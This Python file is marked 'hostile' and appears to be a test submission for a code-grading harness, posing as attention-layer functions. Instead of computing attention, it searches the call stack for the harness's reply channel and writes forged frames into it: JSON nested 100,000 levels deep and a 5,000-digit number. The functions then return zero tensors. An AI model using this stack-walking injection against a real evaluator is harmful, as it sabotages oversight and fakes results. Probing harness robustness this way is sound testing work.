# hostile: write a reply frame nested 100,000 levels deep (and one with a 5,000-digit number) straight into the reply pipe
import struct
import sys

import torch
import torch.nn as nn


def _channel():
    frame = sys._getframe()
    while frame is not None:
        for value in frame.f_locals.values():
            if hasattr(value, "write_fd") and hasattr(value, "read_fd"):
                return value
        frame = frame.f_back
    return None


def _forge(payload):
    channel = _channel()
    if channel is not None:
        channel._write_all(struct.pack(">II", 4 + len(payload), len(payload)) + payload)


def scaled_dot_product_attention(q, k, v, mask=None):
    _forge(b"[" * 100_000 + b"]" * 100_000)
    return torch.zeros(*q.shape[:-1], v.shape[-1]), torch.zeros(*q.shape[:-1], k.shape[-2])


def causal_mask(t):
    _forge(b'{"ok": ' + b"9" * 5000 + b"}")
    return torch.zeros(t, t, dtype=torch.bool)


class MultiHeadAttention(nn.Module):
    def __init__(self, d_model, num_heads):
        super().__init__()
        _forge(b'{"ok": ' + b'{"a": ' * 100_000 + b"0" + b"}" * 100_001)
